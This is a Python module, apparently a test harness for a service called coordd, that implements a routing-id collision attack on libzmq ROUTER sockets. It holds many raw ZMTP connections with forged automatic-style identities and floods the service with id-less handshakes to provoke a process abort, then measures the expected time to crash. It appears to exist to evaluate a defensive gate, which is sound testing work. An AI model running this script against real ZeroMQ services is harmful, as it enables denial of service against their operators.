"""The slow routing-id attack on libzmq, from the attacker's side (see coordd.io._gate).

A ROUTER names a peer that sets no routing id `\\x00` + a counter, and libzmq aborts the
process if a connection already holds that name. The attacker holds `count` such names (raw
ZMTP connections whose READY carries `Identity: \\x00 + 4 random bytes`, re-opened whenever
coordd closes one) while it opens id-less connections as fast as one process can. Raw sockets,
not libzmq: a handshake counts as admitted when coordd's READY arrives (with NULL and ZAP,
coordd sends it only after its gate said yes), and nothing of the attacker's own libzmq gets
in the way of the rate.

`attack()` returns what it achieved: id-less handshakes admitted a second (`a`), names held on
average (`held`), and so the mean time to the abort, 2^32 / (a * held).
"""

from __future__ import annotations

import os
import selectors
import socket
import struct
import time
from dataclasses import dataclass

#: ZMTP 3.0 greeting: signature, version 3.0, mechanism NULL, as-server 0, filler.
GREETING = b"\xff" + b"\x00" * 8 + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\x00") + b"\x00" * 32
#: An id-less handshake not admitted within this is counted refused (stalled by the gate).
REFUSED_AFTER = 0.05


def ready(identity: bytes | None) -> bytes:
    """A DEALER's READY command, with `Identity` if given."""
    body = b"\x05READY\x0bSocket-Type" + struct.pack(">I", 6) + b"DEALER"
    if identity is not None:
        body += b"\x08Identity" + struct.pack(">I", len(identity)) + identity
    return b"\x04" + bytes([len(body)]) + body


@dataclass
class AttackResult:
    seconds: float
    idless_admitted: int = 0
    idless_refused: int = 0
    claims_admitted: int = 0
    claims_closed: int = 0
    #: names held (admitted and still open), sampled every 0.25 s
    held_mean: float = 0.0
    held_max: int = 0
    #: the same over the run's second half (coordd's burst allowance is spent by then)
    late_idless_admitted: int = 0
    late_held_mean: float = 0.0

    @property
    def idless_per_second(self) -> float:
        return self.idless_admitted / self.seconds

    def mean_seconds_to_abort(self, late: bool = False) -> float:
        if late:
            hits = self.late_idless_admitted / (self.seconds / 2) * self.late_held_mean
        else:
            hits = self.idless_per_second * self.held_mean
        return (1 << 32) / hits if hits else float("inf")

    def summary(self) -> str:
        mean, late = self.mean_seconds_to_abort(), self.mean_seconds_to_abort(late=True)
        late_rate = self.late_idless_admitted / (self.seconds / 2)
        return (
            f"id-less handshakes admitted {self.idless_per_second:.1f}/s "
            f"({self.idless_refused} refused), names held {self.held_mean:.0f} on average "
            f"(max {self.held_max}; {self.claims_admitted} admitted, {self.claims_closed} "
            f"closed by coordd): mean time to abort {mean:.0f} s ({mean / 86400:.2f} days); "
            f"second half: {late_rate:.1f}/s, {self.late_held_mean:.0f} held, "
            f"{late:.0f} s ({late / 86400:.2f} days)"
        )


def _open(address: str) -> socket.socket:
    if address.startswith("ipc://"):
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        target: object = address[len("ipc://") :]
    else:
        host, port = address.removeprefix("tcp://").rsplit(":", 1)
        host = host.strip("[]")
        sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
        target = (host, int(port))
    sock.setblocking(False)
    try:
        sock.connect(target)  # type: ignore[arg-type]
    except (BlockingIOError, InterruptedError):
        pass
    except OSError:
        sock.close()
        raise
    return sock


@dataclass(eq=False)
class _Conn:
    sock: socket.socket
    claim: bool
    opened: float
    read: bytes = b""
    admitted: bool = False


def attack(
    address: str, count: int = 1000, seconds: float = 5.0, in_flight: int = 20
) -> AttackResult:
    """Hold `count` automatic-looking names and open id-less connections for `seconds`,
    `in_flight` at a time (few: names plus handshakes in flight must stay under coordd's
    connection cap, which closes the oldest connections first, the names)."""
    selector = selectors.DefaultSelector()
    conns: dict[int, _Conn] = {}
    result = AttackResult(seconds)

    def open_one(claim: bool) -> None:
        try:
            sock = _open(address)
        except OSError:
            return
        try:
            sock.send(GREETING + ready(b"\x00" + os.urandom(4) if claim else None))
        except OSError:
            sock.close()
            return
        conns[sock.fileno()] = _Conn(sock, claim, time.monotonic())
        selector.register(sock, selectors.EVENT_READ)

    def close(conn: _Conn) -> None:
        del conns[conn.sock.fileno()]
        selector.unregister(conn.sock)
        conn.sock.close()

    def on_readable(conn: _Conn) -> None:
        try:
            data = conn.sock.recv(4096)
        except OSError:
            data = b""
        if not data:  # closed by coordd: a claim is opened again at once
            close(conn)
            if conn.claim:
                result.claims_closed += 1
                open_one(claim=True)
            else:
                result.idless_refused += 1
            return
        conn.read += data
        if not conn.admitted and b"\x05READY" in conn.read[len(GREETING) :]:
            conn.admitted = True
            if conn.claim:
                result.claims_admitted += 1
            else:
                result.idless_admitted += 1
                close(conn)

    for _ in range(count):
        open_one(claim=True)
    start = time.monotonic()
    samples: list[tuple[float, int, int]] = []  # (time, names held, id-less admitted)
    sample_at = start
    try:
        while time.monotonic() - start < seconds:
            flying = sum(1 for conn in conns.values() if not conn.claim)
            for _ in range(in_flight - flying):
                open_one(claim=False)
            for key, _ in selector.select(0.01):
                conn = conns.get(key.fd)
                if conn is not None:
                    on_readable(conn)
            now = time.monotonic()
            for conn in list(conns.values()):
                if not conn.claim and now - conn.opened > REFUSED_AFTER:
                    result.idless_refused += 1  # not admitted yet: stalled by the gate
                    close(conn)
            if now >= sample_at:
                held = sum(1 for conn in conns.values() if conn.claim and conn.admitted)
                samples.append((now - start, held, result.idless_admitted))
                sample_at = now + 0.25
    finally:
        for conn in list(conns.values()):
            close(conn)
        selector.close()
    result.seconds = time.monotonic() - start
    result.held_mean = sum(h for _, h, _ in samples) / max(1, len(samples))
    result.held_max = max((h for _, h, _ in samples), default=0)
    late = [(h, n) for t, h, n in samples if t >= result.seconds / 2]
    if late:
        result.late_held_mean = sum(h for h, _ in late) / len(late)
        result.late_idless_admitted = result.idless_admitted - late[0][1]
    return result
